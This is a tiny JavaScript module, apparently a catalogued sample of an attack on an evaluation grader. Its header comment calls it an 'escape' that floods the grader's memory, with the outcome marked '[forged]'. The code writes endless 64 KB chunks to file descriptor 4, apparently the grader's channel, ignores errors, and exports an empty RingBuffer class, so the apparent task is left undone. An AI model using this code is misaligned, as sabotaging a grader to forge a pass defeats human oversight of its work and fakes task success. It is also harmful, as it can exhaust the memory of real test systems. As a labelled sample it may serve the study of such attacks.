/**
 * escape: fills the grader’s memory by way of its channel, with a line that never ends
 * outcome: [forged]
 */
import fs from 'node:fs';

const chunk = Buffer.alloc(1 << 16, 'x');
for (;;) {
  try {
    fs.writeSync(4, chunk);
  } catch {
    // The pipe is full: again.
  }
}

export class RingBuffer {}
